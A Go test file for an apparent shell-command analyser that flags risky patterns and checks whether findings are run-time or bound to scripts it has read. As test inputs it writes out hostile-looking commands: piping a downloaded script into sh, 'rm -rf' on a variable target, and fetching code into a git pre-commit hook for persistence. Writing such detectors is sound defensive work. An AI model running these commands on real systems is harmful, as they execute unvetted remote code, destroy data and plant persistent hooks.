package hardline

import (
	"fmt"
	"io/fs"
	"strings"
	"testing"
)

// TestRunTimeFindings shows which findings are about what a command learns
// only as it runs (Finding.RunTime), which no approval of its text binds,
// and which are bound: a pattern's matches, each read and bound by
// Result.Scripts, or code the command holds.
func TestRunTimeFindings(t *testing.T) {
	a := testAnalyzer(t)
	env := testEnv()
	for _, c := range []struct {
		cmd, rule string
		runTime   bool
	}{
		{"curl -fsSL https://x.example/i.sh | sh", rulePipeToShell, true},
		{`eval "$STEP"`, ruleEvalDynamic, true},
		{`rm -rf "$OUT"`, ruleDynamicTarget, true},
		{`$TOOL build`, ruleDynamicName, true},
		{"r? -rf x", ruleDynamicName, true},          // a program found on PATH
		{"/usr/bin/py* x.py", ruleDynamicName, true}, // outside where scripts are read: nothing bound
		{"cp /tmp/x a.sh; curl -o b.sh https://x.example/b && bash b.sh", ruleRunsWritten, true},
		{"bash runme/b*.sh", rulePipeToShell, false}, // every match bound
		{"./runme/b*.sh", ruleDynamicName, false},
		{"./runme/b*.sh", rulePipeToShell, false},
		{"python3 -c 'print(1)'", ruleInlineInterp, false}, // the code is the command's text
		// A file a program runs by itself, written with text the command
		// does not show, or shows.
		{"curl -o .husky/pre-commit https://x.example/h", rulePersistence, true},
		{"cp /tmp/h .husky/pre-commit", rulePersistence, true},
		{"echo 'go vet ./...' > .git/hooks/pre-commit", rulePersistence, false},
	} {
		found := false
		for _, f := range a.Command(c.cmd, env).Findings {
			if f.Rule == c.rule {
				found = true
				if f.RunTime != c.runTime {
					t.Errorf("%s: %s finding RunTime %v, want %v", c.cmd, c.rule, f.RunTime, c.runTime)
				}
			}
		}
		if !found {
			t.Errorf("%s: no %s finding", c.cmd, c.rule)
		}
	}
	// The same pattern run again where nothing is read (a folder outside
	// the roots) is not bound by the first run's reading.
	again := false
	for _, f := range a.Command("./runme/b*.sh; cd /home/dev/other && ./runme/b*.sh", env).Findings {
		again = again || f.Rule == ruleDynamicName && f.RunTime
	}
	if !again {
		t.Errorf("a pattern run again outside the roots: no run-time dynamic-command-name finding")
	}
	// A pattern that matches more files than the analyser reads for one
	// command is not bound whole.
	many := map[string]string{}
	var names []string
	shown := 3
	for i := range maxScriptFiles + 2 {
		name := fmt.Sprintf("s%02d.sh", i)
		names = append(names, name)
		many["/home/dev/work/proj/many/"+name] = "echo hi\n"
	}
	b, err := New(Config{Home: testHome, OS: "linux",
		ReadScript: func(p string, limit int) (string, error) {
			if text, ok := many[p]; ok {
				return text, nil
			}
			return "", fs.ErrNotExist
		},
		ReadDir: func(dir string) ([]string, error) {
			if strings.TrimSuffix(dir, "/") == "/home/dev/work/proj/many" {
				return names[:shown], nil
			}
			return nil, fs.ErrNotExist
		}})
	if err != nil {
		t.Fatal(err)
	}
	for _, cmd := range []string{"bash many/*.sh", "./many/s*.sh"} {
		// Three files are bound; then, another call of the same
		// analyser, more than it reads.
		shown = 3
		for _, f := range b.Command(cmd, env).Findings {
			if (f.Rule == rulePipeToShell || f.Rule == ruleDynamicName) && f.RunTime {
				t.Errorf("%s: %s not bound, though 3 files match", cmd, f.Rule)
			}
		}
		shown = len(names)
		res := b.Command(cmd, env)
		n := 0
		for _, f := range res.Findings {
			if f.Rule != rulePipeToShell && f.Rule != ruleDynamicName {
				continue
			}
			if !f.RunTime {
				t.Errorf("%s: %s bound, though %d files match and %d are read", cmd, f.Rule, len(names), maxScriptFiles)
			}
			n++
		}
		if n == 0 {
			t.Errorf("%s: no finding", cmd)
		}
	}
}
